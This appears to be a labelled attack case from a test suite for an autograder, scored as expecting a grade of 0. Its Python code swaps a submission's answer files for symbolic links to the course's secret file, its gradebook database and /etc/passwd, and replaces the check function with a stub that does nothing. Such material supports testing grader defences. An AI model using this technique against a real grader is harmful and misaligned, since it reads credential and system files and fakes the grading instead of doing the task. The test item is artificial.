# attack: the answer's place becomes a symbolic link to a file of the grader
# wants: read
# grade: 0
# honest: 0
# %% after
import os
from pathlib import Path
answers = Path(os.environ.get("COURSE_EXCHANGE", "nowhere"), "answers")
names = [slot.name for slot in answers.glob("*")] or ["channel_means.0.npz", "channel_means.1.npz"]
for name, target in zip(names, ("@COURSE@/.secret", "@COURSE@/gradebook.db", "/etc/passwd")):
    try:
        (answers / name).unlink(missing_ok=True)
        (answers / name).symlink_to(target)
    except OSError:
        pass
check = lambda *a: None
